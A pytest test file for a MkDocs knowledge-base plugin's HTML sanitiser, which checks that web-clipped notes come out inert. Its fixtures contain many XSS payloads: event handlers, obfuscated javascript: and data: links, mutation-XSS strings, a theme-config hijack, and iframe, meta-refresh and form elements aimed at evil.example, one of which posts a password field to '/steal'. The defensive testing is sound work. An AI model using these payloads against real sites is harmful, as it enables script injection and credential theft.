"""Note HTML goes through the allow-list sanitiser: real builds of web-clipped notes.

Every payload is checked element by element in the built page (what a browser would build from
it), and the legitimate HTML notes and the Markdown extensions produce is checked to survive.
"""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Iterator

import pytest
from mkdocs.commands import build
from mkdocs.config import load_config

from kbsite.search.shards import read_index

from kbtest import MKDOCS_YML, BuildResult, build_kb, make_kb

EXTENSIONS = ["tables", "footnotes", "pymdownx.highlight", "pymdownx.inlinehilite", "pymdownx.mark",
              "pymdownx.keys", "pymdownx.details", "md_in_html"]
YML = MKDOCS_YML.replace("validation:", "".join(f"  - {e}\n" for e in EXTENSIONS) + "validation:")
TRUSTING_YML = YML.replace("  - kbsite\n", "  - kbsite:\n      sanitize: false\n")
assert TRUSTING_YML != YML

# A web-clipped note: each payload carries a marker (s1, s2 ...) that must not survive as code.
CLIPPED = """\
---
title: 剪藏
topics: [剪藏主题]
---
正文开始。

<script>alert("s1")</script>

<p>图片 <img src="x.png" onerror="alert('s2')"> 结束</p>

<p><a href="javascript:alert('s3')">js 链接</a> 和 <a href="  JaVaScRiPt:alert('s4')">大小写</a> 和 <a href="&#106;ava&#x09;script:alert('s5')">实体</a> 和 <a href="data:text/html,&lt;script&gt;alert('s6')&lt;/script&gt;">数据链接</a> 和 <a href="vbscript:msgbox('s7')">vb</a></p>

<iframe src="https://evil.example/frame">框架 s8</iframe>

<object data="https://evil.example/s9.swf"><embed src="https://evil.example/s9.swf"></object>

<form action="https://evil.example/steal"><input name="pw"><button>送出 s10</button></form>

<style>body { display: none } /* s11 */</style>

<svg onload="alert('s12')" width="10" height="10"><circle r="4" onclick="alert('s12b')"/></svg>

<math><mi xlink:href="javascript:alert('s13')">x</mi></math>

<p><img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+" alt="数据图"></p>

<div onclick="alert('s14')">可点击</div>

<input onfocus="alert('s15')" autofocus>

<details open ontoggle="alert('s16')"><summary>展开</summary>内容</details>

<p style="color: red; background-image: url(javascript:alert('s17'))">红字</p>

<textarea><script>alert('s20')</script></textarea>

<!-- 注释 s21 -->

<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/s22"><link rel="stylesheet" href="https://evil.example/s23.css">

见 [[好内容]] 和 <b onmouseover="alert('s24')">粗</b> 结束。

正文结束。
"""
GOOD = """\
---
title: 好内容
topics: [剪藏主题]
---
| 左 | 中 | 右 |
|:---|:--:|---:|
| a | b | c |

<details><summary>摘要</summary>
细节内容
</details>

H<sup>2</sup>O 和 ==高亮== 和 ++ctrl+c++ 和 <mark>标记</mark> 和 <kbd>Enter</kbd>

脚注[^1]。

[^1]: 脚注内容。

- [x] 已完成
- [ ] 未完成

!!! note "注意"
    警告框内容

```python
def f(x):
    return x + 1
```

<img src="pic.png" width="120" alt="图一">

![图二](pic.png){ width="200" }

<p><a href="https://example.org/x" target="_blank">外链</a> <a href="mailto:a@example.org">邮件</a> <a href="../clip/">相对</a></p>

行内 $x^2$ 公式。

$$
\\frac{a}{b}
$$

文本 $\\text{a<b}$ 完。
"""
# Parser-confusion payloads (mutation XSS): unclosed, they swallow the rest of their note.
MXSS = """\
---
title: 变异
---
前文。

<noscript><p title="</noscript><img src=x onerror=alert('s18')>"></noscript>

<svg><style><img src=x onerror=alert('s18b')></style></svg>

<math><mi><style><img src=x onerror=alert('s18c')></style></mi></math>

<math><annotation-xml encoding="text/html"><img src=x onerror=alert('s18d')></annotation-xml></math>

<math><mtext><table><mglyph><style><img src=x onerror=alert('s19')>
"""
TOPIC = """\
---
title: 剪藏主题
type: topic
---
主题说明 <script>alert('s25')</script><img src="pic.png" onerror="alert('s26')" alt="主题图">
"""
FILES = {"notes/clip.md": CLIPPED, "notes/good.md": GOOD, "notes/mxss.md": MXSS, "notes/topics/clip-topic.md": TOPIC,
         "notes/pic.png": b"\x89PNG\r\n\x1a\n", "notes/x.png": b"\x89PNG\r\n\x1a\n"}
MARKER_RE = re.compile(r"(?<![A-Za-z0-9])s\d{1,2}[a-d]?(?![0-9])")  # s1 ... s26
C0_AND_SPACE = "".join(map(chr, range(0x21)))
PAYLOAD_WORDS = ["alert", "evil.example", "msgbox", "display: none", "送出"]
ALLOWED_SCHEMES = ("http", "https", "mailto")


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> BuildResult:
    return build_kb(make_kb(tmp_path_factory.mktemp("clip"), FILES, YML))


def descendants(el: dict) -> Iterator[dict]:
    for child in el["children"]:
        yield child
        yield from descendants(child)


def article(result: BuildResult, rel: str) -> dict:
    return result.page(rel).find("article")


def _inside_article(result: BuildResult, rel: str) -> list[dict]:
    return list(descendants(article(result, rel)))


def by_text(elements: list[dict], tag: str, text: str) -> dict:
    found = [el for el in elements if el["tag"] == tag and el["text"].strip() == text]
    assert len(found) == 1, (tag, text, found)
    return found[0]


def assert_inert(elements: list[dict], where: str) -> None:
    """No element that runs code or loads active content, no handler, no script URL."""
    for el in elements:
        tag, attrs = el["tag"], el["attrs"]
        assert tag not in {"script", "style", "iframe", "object", "embed", "form", "textarea", "button",
                           "template", "noscript", "base", "meta", "link", "frame", "frameset", "applet",
                           "mglyph", "annotation-xml", "foreignobject"}, (where, el)
        for name, value in attrs.items():
            assert not name.startswith("on"), (where, tag, name, value)
            assert name not in {"xlink:href", "formaction", "srcset", "autofocus", "srcdoc", "action"}, (where, tag, name)
            if name in {"href", "src", "poster", "data", "cite", "background"} and value is not None:
                # as a browser reads a URL: leading controls and spaces dropped, tabs and newlines removed
                url = re.sub(r"[\t\n\r]", "", value).lstrip(C0_AND_SPACE)
                scheme = re.match(r"([a-z][a-z0-9+.-]*):", url, re.I)
                assert scheme is None or scheme.group(1).lower() in ALLOWED_SCHEMES, (where, tag, name, value)
            if name == "style" and value:
                assert "url(" not in value and "expression" not in value, (where, tag, value)
        for word in PAYLOAD_WORDS:
            assert all(word not in str(v) for v in attrs.values()), (where, tag, attrs)
        assert not any(MARKER_RE.search(str(v)) for v in attrs.values()), (where, tag, attrs)


# ---- Hostile HTML is gone or neutralised ------------------------------------------------------


def test_clipped_note_is_inert(site: BuildResult) -> None:
    elements = _inside_article(site, "notes/clip/index.html")
    assert_inert(elements, "clip")
    text = article(site, "notes/clip/index.html")["text"]
    for word in PAYLOAD_WORDS + ["注释", "框架", "msgbox"]:
        assert word not in text, word  # no script, style, comment, iframe or button content left
    assert MARKER_RE.findall(text) == []  # no payload left anything behind as text either
    assert "正文开始。" in text and "正文结束。" in text  # the note itself is all there


def test_no_script_anywhere_but_the_themes(site: BuildResult) -> None:
    def scripts(rel: str) -> list[tuple[str, str]]:
        return [(s["attrs"].get("src") or "", s["attrs"].get("id") or "") for s in site.page(rel).tags("script")]

    # The same template with harmless content: the theme's scripts, and nothing from the note.
    assert scripts("notes/clip/index.html") == scripts("notes/good/index.html")
    for rel in ("notes/clip/index.html", "notes/topics/clip-topic/index.html", "notes/good/index.html"):
        page = site.page(rel)
        for el in page.elements:  # the whole page: the theme writes no inline handlers either
            assert not [a for a in el["attrs"] if a.startswith("on")], (rel, el)
        for s in page.tags("script"):
            assert not any(m in s["text"] for m in ("alert(", "msgbox")), (rel, s)


def test_each_payload_element_by_element(site: BuildResult) -> None:
    els = _inside_article(site, "notes/clip/index.html")
    # <img onerror>: the image stays, the handler goes
    img = [e for e in els if e["tag"] == "img" and e["attrs"].get("src") == "x.png"]
    assert [e["attrs"] for e in img] == [{"src": "x.png"}]
    # javascript: (any case, leading spaces, entities, a tab), data: and vbscript: links: text, no href
    for label in ("js 链接", "大小写", "实体", "数据链接", "vb"):
        assert by_text(els, "a", label)["attrs"] == {}, label
    # data: image: no src left
    data_img = [e for e in els if e["tag"] == "img" and e["attrs"].get("alt") == "数据图"]
    assert [e["attrs"] for e in data_img] == [{"alt": "数据图"}]
    # <svg onload>, <circle onclick>: the drawing stays, inert
    svg = [e for e in els if e["tag"] == "svg"]
    assert len(svg) == 1 and svg[0]["attrs"] == {"width": "10", "height": "10"}
    assert [c["tag"] for c in svg[0]["children"]] == ["circle"] and svg[0]["children"][0]["attrs"] == {"r": "4"}
    # <math><mi xlink:href=javascript:>: the formula stays, the link goes
    mi = [e for e in els if e["tag"] == "mi" and e["text"] == "x"]
    assert [e["attrs"] for e in mi] == [{}]
    # <div onclick>, <input onfocus autofocus>, <details open ontoggle>
    assert by_text(els, "div", "可点击")["attrs"] == {}
    assert [e["attrs"] for e in els if e["tag"] == "input"] == [{}]
    details = by_text(els, "details", "展开内容")
    assert set(details["attrs"]) == {"open"}
    assert [c["tag"] for c in details["children"]] == ["summary"] and details["children"][0]["text"] == "展开"
    # style: only the allowed properties, never a url()
    assert by_text(els, "p", "红字")["attrs"] == {"style": "color:red"}
    # <b onmouseover> next to a wikilink: both stay, the handler goes
    assert by_text(els, "b", "粗")["attrs"] == {}
    link = by_text([e for e in els if "kb-link" in (e["attrs"].get("class") or "").split()], "a", "好内容")
    assert link["attrs"] == {"class": "kb-link", "href": "../good/"}  # no title that repeats the text
    # nothing of iframe / object / embed / form / style / textarea / comments / base / meta / link
    tags = {e["tag"] for e in els}
    assert not tags & {"iframe", "object", "embed", "form", "button", "style", "textarea", "script",
                       "noscript", "base", "meta", "link", "mglyph"}


def test_parser_confusion_payloads_are_inert(site: BuildResult) -> None:
    els = _inside_article(site, "notes/mxss/index.html")
    assert_inert(els, "mxss")
    assert "前文。" in article(site, "notes/mxss/index.html")["text"]
    assert "alert" not in article(site, "notes/mxss/index.html")["text"]
    for img in (e for e in els if e["tag"] == "img"):
        assert set(img["attrs"]) <= {"src", "alt"}, img


def test_topic_notes_are_sanitised_too(site: BuildResult) -> None:
    els = _inside_article(site, "notes/topics/clip-topic/index.html")
    assert_inert(els, "topic")
    img = [e for e in els if e["tag"] == "img" and e["attrs"].get("alt") == "主题图"]
    assert [e["attrs"] for e in img] == [{"src": "pic.png", "alt": "主题图"}]
    assert "alert" not in article(site, "notes/topics/clip-topic/index.html")["text"]
    assert "主题说明" in article(site, "notes/topics/clip-topic/index.html")["text"]


def test_backlink_snippet_is_plain_text(site: BuildResult) -> None:
    page = site.page("notes/good/index.html")
    snippet = page.find("ul", cls="kb-backlinks")["children"][0]["children"][1]
    assert snippet["tag"] == "blockquote"
    assert snippet["children"] == []
    assert snippet["text"] == "见 好内容 和 粗 结束。"


def test_theme_ids_cannot_be_taken_over(tmp_path: Path) -> None:
    """Material reads its configuration (search worker URL included) from the first
    ``#__config`` in the page: a note's element with that id would replace it."""
    hijack = json.dumps({"base": "../..", "features": [], "search": "data:text/javascript,0"})
    note = (f'<div id="__config">{hijack}</div>\n\n<p id="__search">搜索</p>\n\n'
            '<input type="checkbox" id="__drawer">\n\n## 正常标题\n\n脚注[^1]\n\n[^1]: 脚注。\n')
    result = build_kb(make_kb(tmp_path, {"notes/clip.md": note}, YML))
    page = result.page("notes/clip/index.html")
    configs = page.find_all(id="__config")
    assert [(e["tag"], e["attrs"].get("type")) for e in configs] == [("script", "application/json")]
    assert json.loads(configs[0]["text"])["search"].startswith("../../assets/kbsite/search-worker.js")
    for theme_id in ("__search", "__drawer"):
        assert [e["tag"] for e in page.find_all(id=theme_id)] == ["input"], theme_id
    ids = {e["attrs"]["id"] for e in _inside_article(result, "notes/clip/index.html") if "id" in e["attrs"]}
    assert {"正常标题", "fn:1", "fnref:1"} <= ids  # the note's own ids are kept


@pytest.mark.browser
def test_clipped_note_runs_nothing_in_a_browser(tmp_path: Path, page, serve_dir) -> None:
    """The real thing: open the clipped note, use the search box, no dialog and no request out.
    Includes a note that tries Material's configuration (a data: search worker whose results
    Material renders as HTML)."""
    worker = ("addEventListener('message',e=>{postMessage(e.data.type===0?{type:1}:{type:3,data:{items:"
              "[[{location:'x',title:'\\u003cimg src=x onerror=alert(7)\\u003e',text:'t',score:1,terms:{}}]]}})})")
    hijack = json.dumps({"base": "../..", "features": [], "translations": {}, "search": "data:text/javascript," + worker})
    files = {**FILES, "notes/hijack.md": f"---\ntitle: 劫持\n---\n正文。\n\n<div id=\"__config\">{hijack}</div>\n"}
    make_kb(tmp_path, files, YML)
    build_kb(tmp_path)
    base = serve_dir(tmp_path / "site")
    dialogs: list[str] = []
    outside: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.on("request", lambda r: outside.append(r.url) if not r.url.startswith((base, "data:")) else None)
    for rel in ("notes/clip/", "notes/mxss/", "notes/topics/clip-topic/", "notes/hijack/"):
        page.goto(base + rel)
        page.wait_for_load_state("load")
        page.keyboard.press("s")  # Material's shortcut: focus the search box
        page.keyboard.type("好内容")
        page.wait_for_timeout(1000)  # the worker answers; Material renders the results
        assert dialogs == [], (rel, dialogs)
        assert page.evaluate("[...document.querySelectorAll('*')].filter(e => [...e.attributes]"
                             ".some(a => a.name.startsWith('on'))).length") == 0, rel
    assert outside == []


# ---- Legitimate HTML survives -----------------------------------------------------------------


def test_legitimate_content_survives(site: BuildResult) -> None:
    els = _inside_article(site, "notes/good/index.html")
    assert_inert(els, "good")
    # tables with column alignment
    assert [th["attrs"].get("style") for th in els if th["tag"] == "th"] == [
        "text-align:left", "text-align:center", "text-align:right"]
    assert [td["attrs"].get("style") for td in els if td["tag"] == "td"] == [
        "text-align:left", "text-align:center", "text-align:right"]
    # <details><summary>
    details = [e for e in els if e["tag"] == "details"]
    assert len(details) == 1 and details[0]["children"][0]["tag"] == "summary"
    assert details[0]["children"][0]["text"] == "摘要" and "细节内容" in details[0]["text"]
    # <sup>, ==mark==, <mark>, ++keys++, <kbd>
    assert "2" in [e["text"] for e in els if e["tag"] == "sup"]
    assert [e["text"] for e in els if e["tag"] == "mark"] == ["高亮", "标记"]
    assert [e["text"] for e in els if e["tag"] == "kbd"] == ["Ctrl", "C", "Enter"]
    # footnotes: reference and back-reference, with their ids
    ref = [e for e in els if e["tag"] == "a" and "footnote-ref" in (e["attrs"].get("class") or "")]
    assert [(r["attrs"]["href"], r["text"]) for r in ref] == [("#fn:1", "1")]
    ids = {e["attrs"].get("id") for e in els}
    assert {"fn:1", "fnref:1"} <= ids
    back = [e for e in els if e["tag"] == "a" and "footnote-backref" in (e["attrs"].get("class") or "")]
    assert [b["attrs"]["href"] for b in back] == ["#fnref:1"]
    # task list: checkboxes, one checked, all disabled
    boxes = [e["attrs"] for e in els if e["tag"] == "input"]
    assert [(b.get("type"), "checked" in b, "disabled" in b) for b in boxes] == [
        ("checkbox", True, True), ("checkbox", False, True)]
    items = [e for e in els if e["tag"] == "li" and "task-list-item" in (e["attrs"].get("class") or "")]
    assert [li["text"].strip() for li in items] == ["已完成", "未完成"]
    # admonition
    adm = [e for e in els if e["tag"] == "div" and (e["attrs"].get("class") or "").split() == ["admonition", "note"]]
    assert len(adm) == 1 and adm[0]["children"][0]["attrs"]["class"] == "admonition-title"
    assert adm[0]["children"][0]["text"] == "注意" and "警告框内容" in adm[0]["text"]
    # highlighted code: Pygments' token classes are kept
    code = [e for e in els if e["tag"] == "div" and "highlight" in (e["attrs"].get("class") or "").split()]
    assert len(code) == 1
    tokens = {(s["attrs"].get("class"), s["text"]) for s in descendants(code[0]) if s["tag"] == "span"}
    assert {("k", "def"), ("nf", "f"), ("k", "return")} <= tokens
    # images with width, links with allowed schemes and relative links
    imgs = {e["attrs"].get("alt"): e["attrs"] for e in els if e["tag"] == "img"}
    assert imgs["图一"] == {"src": "pic.png", "width": "120", "alt": "图一"}
    assert imgs["图二"] == {"alt": "图二", "src": "../pic.png", "width": "200"}  # MkDocs made it relative to the page
    links = {e["text"]: e["attrs"] for e in els if e["tag"] == "a"}
    assert links["外链"] == {"href": "https://example.org/x", "target": "_blank"}
    assert links["邮件"] == {"href": "mailto:a@example.org"}
    assert links["相对"] == {"href": "../clip/"}


def test_mathml_survives_with_alttext(site: BuildResult) -> None:
    els = _inside_article(site, "notes/good/index.html")
    maths = [e for e in els if e["tag"] == "math"]
    assert [(m["attrs"].get("display"), m["attrs"].get("alttext")) for m in maths] == [
        ("inline", "x^2"), ("block", "\\frac{a}{b}"), ("inline", "\\text{a<b}")]
    # HTML parses <math> into the MathML namespace by itself: no 43-byte xmlns on every formula
    assert not any("xmlns" in m["attrs"] for m in maths)
    sup = [e for e in descendants(maths[0]) if e["tag"] == "msup"]
    assert len(sup) == 1 and [c["tag"] for c in sup[0]["children"]] == ["mi", "mn"]
    assert [e["tag"] for e in descendants(maths[1]) if e["tag"] == "mfrac"] == ["mfrac"]
    # \text{a<b}: "a<b" is the text of an <mtext>, not a tag
    mtext = [e for e in descendants(maths[2]) if e["tag"] == "mtext"]
    assert [(t["text"], t["children"]) for t in mtext] == [("a<b", [])]
    assert not [e for e in descendants(maths[2]) if e["tag"] == "b"]


# ---- The search index ---------------------------------------------------------------------------


def test_search_index_holds_no_script_text(site: BuildResult) -> None:
    index, raw = read_index(site.site)  # the entry and every shard
    pages = {p[0]: p for p in index["docs"]["pages"]}
    clip = json.dumps(pages["notes/clip/"], ensure_ascii=False)
    assert "正文开始" in clip and "可点击" in clip  # the note's text is indexed ...
    for word in PAYLOAD_WORDS + ["注释"]:
        assert word not in raw, word  # ... its scripts, styles, comments and buttons are not
    topic = json.dumps(pages["notes/topics/clip-topic/"], ensure_ascii=False)
    assert "主题说明" in topic and "alert" not in topic


# ---- Another plugin after kbsite, and serve rebuilds -----------------------------------------


def test_html_changed_by_a_later_plugin_is_sanitised(tmp_path: Path) -> None:
    hook = ("def on_page_content(html, page, config, files):\n"
            "    return html + '<p onclick=\"alert(1)\">钩子</p><script>alert(2)</script>'\n")
    yml = YML + "hooks:\n  - hook.py\n"
    result = build_kb(make_kb(tmp_path, {"notes/a.md": "正文。\n", "hook.py": hook}, yml))
    els = _inside_article(result, "notes/a/index.html")
    assert_inert(els, "hooked")
    assert by_text(els, "p", "钩子")["attrs"] == {}


def test_serve_rebuild_reuses_only_sanitised_html(tmp_path: Path) -> None:
    make_kb(tmp_path, FILES, YML)
    plugin = None
    pages = []
    try:
        for _ in range(2):
            cfg = load_config(config_file=str(tmp_path / "mkdocs.yml"))
            plugin = cfg.plugins["kbsite"]
            plugin.on_startup(command="serve", dirty=False)
            build.build(cfg)
            pages.append((tmp_path / "site/notes/clip/index.html").read_text(encoding="utf-8"))
        assert plugin._page_cache.hits >= 3  # the second build reused the notes' HTML
    finally:
        if plugin is not None:
            plugin.on_startup(command="build", dirty=False)
    assert pages[0] == pages[1]
    result = BuildResult(tmp_path, [])
    assert_inert(_inside_article(result, "notes/clip/index.html"), "served")


# ---- sanitize: false ----------------------------------------------------------------------------


def test_sanitize_false_trusts_the_vault(tmp_path: Path) -> None:
    note = '正文 <span data-x="1" class="mine">自定义</span>\n\n<script>window.kbTrusted = 1</script>\n'
    result = build_kb(make_kb(tmp_path, {"notes/a.md": note}, TRUSTING_YML))
    els = _inside_article(result, "notes/a/index.html")
    span = by_text(els, "span", "自定义")
    assert span["attrs"] == {"data-x": "1", "class": "mine"}
    scripts = [e for e in els if e["tag"] == "script"]
    assert [s["text"] for s in scripts] == ["window.kbTrusted = 1"]
    # and on by default: the same note loses both
    (tmp_path / "mkdocs.yml").write_text(YML, encoding="utf-8")
    els = _inside_article(build_kb(tmp_path), "notes/a/index.html")
    assert by_text(els, "span", "自定义")["attrs"] == {"class": "mine"}
    assert not [e for e in els if e["tag"] == "script"]


def test_sanitize_option_must_be_a_boolean(tmp_path: Path) -> None:
    from mkdocs.exceptions import Abort

    make_kb(tmp_path, {"notes/a.md": "正文\n"}, YML.replace("  - kbsite\n", "  - kbsite:\n      sanitize: \"no\"\n"))
    with pytest.raises(Abort):
        build_kb(tmp_path)
